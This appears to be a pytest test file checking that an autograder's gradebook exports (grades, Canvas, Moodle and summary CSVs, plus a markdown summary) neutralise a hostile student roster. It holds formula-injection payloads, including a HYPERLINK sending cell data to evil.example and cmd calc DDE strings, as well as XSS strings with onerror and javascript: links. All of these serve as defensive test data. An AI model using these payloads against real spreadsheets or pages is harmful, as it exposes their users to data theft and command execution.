"""Exports a spreadsheet opens safely: grades.csv, summary.csv, canvas.csv and moodle.csv for a hostile roster.

Every file is read back with Python's csv module and compared row by row; the raw text shows
every field quoted and every formula start neutralised with a leading single quote.
"""
import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from autograder.csvsafe import cell
from autograder.export import CourseCsvExportPlugin, export

REPO = Path(__file__).resolve().parents[2]
LESSON = "01_seq2seq_bottleneck"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# (student id, first name, last name, email): commas, quotes, newlines and every formula start
ROSTER = [
    ("comma", "Bo, Jr.", "Ødegård", "bo@uni.edu"),
    ("quote", 'Ann "The Hammer"', "O'Neil", None),
    ("newline", "Line\nBreak", "Two\r\nLines", None),
    ("hyper", "Eve", HYPERLINK, "=1+1@evil.example"),
    ("plus", "+cmd|' /C calc'!A0", "Plus", None),
    ("minus", "-2+3", "Minus", "-2@x.org"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0", "At", "@evil"),
    ("tab", "\t=1+1", "\r=2+2", None),
    ("-5", "-5", "7", None),  # plain numbers: not formulas, left as they are
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


PLAIN_NUMBER = r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?"


def safe(text):
    """A text field as a spreadsheet must see it: a formula start gets a leading ' (text), a plain number not."""
    import re
    text = text or ""
    return "'" + text if text.startswith(FORMULA_STARTS) and not re.fullmatch(PLAIN_NUMBER, text) else text


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course folder with a gradebook: one lesson (test cells "=cmd()" and "ok" of 3 and 2 points), the roster."""
    from nbgrader.api import Gradebook
    root = tmp_path_factory.mktemp("course")
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        gb.add_assignment(LESSON)
        gb.add_notebook(LESSON, LESSON)
        gb.add_grade_cell("=cmd()", LESSON, LESSON, max_score=3, cell_type="code")
        gb.add_grade_cell("ok", LESSON, LESSON, max_score=2, cell_type="code")
        for sid, first, last, email in ROSTER:
            gb.add_student(sid, first_name=first, last_name=last, email=email)
        for sid, a, b in [("comma", 3, 2), ("hyper", 3, 0), ("minus", 0, 2)]:
            gb.add_submission(LESSON, sid)
            gb.find_grade("=cmd()", LESSON, LESSON, sid).auto_score = a
            gb.find_grade("ok", LESSON, LESSON, sid).auto_score = b
        gb.db.commit()
    return root


@pytest.fixture(scope="module")
def exported(course):
    out = course / "export"
    export(course, out, log=lambda *_: None)
    return out


def rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_a_text_field_that_starts_a_formula_gets_a_quote_and_numbers_stay_numbers():
    for start in FORMULA_STARTS:
        assert cell(start + "1+1") == "'" + start + "1+1"
    assert [cell(v) for v in (5, 4.5, -1.5, "5", "-0.5", "+2", "1e-3", None, "Ann", "x=1")] == \
        [5, 4.5, -1.5, "5", "-0.5", "+2", "1e-3", "", "Ann", "x=1"]


def _grades_rows(course):
    """The rows nbgrader's grades CSV must hold for the roster, as strings, neutralised."""
    from nbgrader.api import Gradebook
    expected = []
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        stamps = {s.student.id: str(s.timestamp or "") for s in gb.find_assignment(LESSON).submissions}
    scores = {"comma": 5.0, "hyper": 3.0, "minus": 2.0}
    for sid, first, last, email in ROSTER:
        score = str(scores.get(sid, 0.0))
        expected.append([LESSON, "", stamps.get(sid, ""), safe(sid), safe(last), safe(first), safe(email),
                         score, "0.0", score, "5.0"])
    return expected


def test_grades_csv_holds_nbgraders_columns_with_every_hostile_name_in_its_column(course, exported):
    got = rows(exported / "grades.csv")
    assert got[0] == ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email",
                      "raw_score", "late_submission_penalty", "score", "max_score"]
    assert sorted(got[1:]) == sorted(_grades_rows(course))


def test_canvas_and_moodle_csv_hold_every_hostile_name_in_its_column(exported):
    scores = {"comma": "5", "hyper": "3", "minus": "2"}
    canvas = rows(exported / "canvas.csv")
    assert canvas[:2] == [["Student", "ID", "SIS User ID", "SIS Login ID", "Section", LESSON],
                          ["Points Possible", "", "", "", "", "5"]]
    assert canvas[2:] == [[safe(f"{last}, {first}"), "", safe(sid), safe(sid), "", scores.get(sid, "0")]
                          for sid, first, last, _ in sorted(ROSTER)]
    assert rows(exported / "moodle.csv") == [["First name", "Last name", "ID number", "Email address", LESSON]] + [
        [safe(first), safe(last), safe(sid), safe(email), scores.get(sid, "0")] for sid, first, last, email in sorted(ROSTER)]


def test_summary_csv_neutralises_a_cell_name_and_keeps_its_numbers(exported):
    assert rows(exported / "summary.csv") == [
        ["assignment", "notebook", "cell", "max_points", "submissions", "full_marks", "failed", "mean", "pending"],
        [LESSON, LESSON, "'=cmd()", "3.0", "3", "2", "1", "2.00", "0"],
        [LESSON, LESSON, "ok", "2.0", "3", "2", "1", "1.33", "0"],
    ]


def test_the_hostile_rows_as_a_spreadsheet_reads_them(exported):
    grades = {r[3]: r for r in rows(exported / "grades.csv")}
    assert grades["hyper"][3:7] == ["hyper", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "Eve",
                                    "'=1+1@evil.example"]
    assert grades["comma"][3:7] == ["comma", "Ødegård", "Bo, Jr.", "bo@uni.edu"]
    assert grades["newline"][3:6] == ["newline", "Two\r\nLines", "Line\nBreak"]
    assert grades["tab"][3:6] == ["tab", "'\r=2+2", "'\t=1+1"]
    assert grades["-5"][3:6] == ["-5", "7", "-5"]
    canvas = {r[2]: r for r in rows(exported / "canvas.csv")}
    assert canvas["hyper"] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\"), Eve", "", "hyper", "hyper", "", "3"]
    assert canvas["at"][0] == "At, @SUM(1+1)*cmd|' /C calc'!A0"  # a letter first: no formula
    moodle = {r[2]: r for r in rows(exported / "moodle.csv")}
    assert moodle["plus"] == ["'+cmd|' /C calc'!A0", "Plus", "plus", "", "0"]
    assert moodle["minus"] == ["'-2+3", "Minus", "minus", "'-2@x.org", "2"]
    assert moodle["at"] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "At", "at", "'@evil", "0"]
    assert moodle["quote"] == ['Ann "The Hammer"', "O'Neil", "quote", "", "0"]


@pytest.mark.parametrize("name", ["grades.csv", "canvas.csv", "moodle.csv", "summary.csv"])
def test_every_field_is_quoted_and_no_field_starts_a_formula(exported, name):
    with open(exported / name, newline="", encoding="utf-8") as f:
        # QUOTE_NONNUMERIC reads an unquoted field as a float (and fails on an unquoted text): all str = all quoted
        fields = [v for row in csv.reader(f, quoting=csv.QUOTE_NONNUMERIC) for v in row]
    assert fields and all(isinstance(v, str) for v in fields), [v for v in fields if not isinstance(v, str)][:5]
    import re
    formulas = [v for v in fields if v.startswith(FORMULA_STARTS) and not re.fullmatch(PLAIN_NUMBER, v)]
    assert not formulas, (name, formulas)


@pytest.mark.parametrize("how", ["config", "exporter"])
def test_plain_nbgrader_export_writes_the_same_safe_grades_csv(course, exported, tmp_path, how):
    """`nbgrader export` with the course's configuration (ExportApp.plugin_class) or --exporter=..."""
    out = tmp_path / "grades.csv"
    cmd = [sys.executable, "-m", "nbgrader", "export", "--JupyterApp.config_file=autograder/nbgrader_config.py",
           f"--CourseDirectory.root={course}", f"--to={out}"]
    if how == "exporter":
        cmd.append("--exporter=autograder.export.CourseCsvExportPlugin")
    done = subprocess.run(cmd, cwd=REPO, capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PYTHONPATH": str(REPO)})
    assert done.returncode == 0, done.stderr[-2000:]
    assert "CourseCsvExportPlugin" in done.stderr
    assert out.read_bytes() == (exported / "grades.csv").read_bytes()


def test_the_plugin_exports_only_the_students_asked_for(course, tmp_path):
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        CourseCsvExportPlugin(to=str(tmp_path / "g.csv"), student=["hyper"]).export(gb)
    assert [r[3:7] for r in rows(tmp_path / "g.csv")[1:]] == [["hyper", "'" + HYPERLINK, "Eve", "'=1+1@evil.example"]]


@pytest.mark.parametrize("plugin, id_column", [("CanvasExportPlugin", 2), ("MoodleExportPlugin", 2)])
def test_an_lms_plugin_exports_only_the_students_and_lessons_asked_for(course, tmp_path, plugin, id_column):
    """nbgrader's `--student` and `--assignment` filters, honoured as nbgrader's own CsvExportPlugin does."""
    from nbgrader.api import Gradebook
    from autograder import lms
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        gb.add_assignment("lesson-not-asked-for")
        getattr(lms, plugin)(to=str(tmp_path / "all.csv")).export(gb)
        getattr(lms, plugin)(to=str(tmp_path / "some.csv"), student=["hyper", "minus"], assignment=[LESSON]).export(gb)
        gb.remove_assignment("lesson-not-asked-for")
    everyone, some = rows(tmp_path / "all.csv"), rows(tmp_path / "some.csv")
    assert "lesson-not-asked-for" in everyone[0] and "lesson-not-asked-for" not in some[0]
    assert some[0][-1] == LESSON
    students = [r[id_column] for r in some if r[id_column] in {s[0] for s in ROSTER}]
    assert students == ["hyper", "minus"] and len(everyone) > len(some)



# A forged grader failure's text, as a kernel could make a flag quote it: HTML, a javascript: link, an image, a
# spreadsheet formula, a table cell and a line break that would start a heading.
HOSTILE_FLAG = ('grader: <img src=x onerror=alert(1)> [click](javascript:alert(1)) ![i](http://evil.example/x.png) '
                '=HYPERLINK("http://evil.example") | cell ``` `x`\n# heading')


@pytest.fixture(scope="module")
def pending_course(tmp_path_factory):
    """A course where the grader could not run one test cell of `held`'s submission (needs manual grade), and
    `loud`'s report carries a flag that quotes hostile text."""
    from nbgrader.api import Gradebook

    from autograder import outcome
    from autograder.course import submission_paths
    from autograder.job import findings
    root = tmp_path_factory.mktemp("pending")
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        gb.add_assignment(LESSON)
        gb.add_notebook(LESSON, LESSON)
        gb.add_grade_cell("test_a", LESSON, LESSON, max_score=3, cell_type="code")
        gb.add_grade_cell("test_b", LESSON, LESSON, max_score=2, cell_type="code")
        for sid, a, b in [("held", 3, None), ("loud", 0, 2)]:
            gb.add_student(sid)
            gb.add_submission(LESSON, sid)
            gb.find_grade("test_a", LESSON, LESSON, sid).auto_score = a
            grade = gb.find_grade("test_b", LESSON, LESSON, sid)
            grade.auto_score, grade.needs_manual_grade = b, b is None
        gb.db.commit()
    loud = submission_paths(root, LESSON, "loud")
    loud.submitted.parent.mkdir(parents=True)
    outcome.write(loud, outcome.Outcome(LESSON, "loud", flags=findings([HOSTILE_FLAG])))
    export(root, root / "export", log=lambda *_: None)
    return root / "export"


def test_a_cell_the_grader_could_not_run_is_pending_in_every_export_never_zero(pending_course):
    grades = {r[3]: r for r in rows(pending_course / "grades.csv")[1:]}
    assert (grades["held"][7], grades["held"][9]) == ("pending", "pending")
    assert (grades["loud"][7], grades["loud"][9]) == ("2.0", "2.0")
    assert [r[2:] for r in rows(pending_course / "canvas.csv")[2:]] == [["held", "held", "", ""], ["loud", "loud", "", "2"]]
    assert [r[2:] for r in rows(pending_course / "moodle.csv")[1:]] == [["held", "", ""], ["loud", "", "2"]]
    summary = {r[2]: r for r in rows(pending_course / "summary.csv")[1:]}
    assert summary["test_b"][4:] == ["1", "1", "0", "2.00", "1"]  # one scored (full marks), one pending
    assert "## Pending manual grading (1)" in (pending_course / "summary.md").read_text()


def test_summary_md_shows_a_flags_text_as_text(pending_course):
    """Rendered as an instructor's viewer would (CommonMark with HTML on): the flag is one list item of plain
    text; no tag, link, image, heading or table from it."""
    from markdown_it import MarkdownIt
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render((pending_course / "summary.md").read_text())
    assert "<img" not in html and "javascript:" not in html.split("<code>")[0]
    assert 'href="javascript' not in html and "<a " not in html and "<h1>heading" not in html
    flag_item = next(line for line in html.splitlines() if "onerror" in line)
    assert "<code>" in flag_item and "&lt;img src=x onerror=alert(1)&gt;" in flag_item
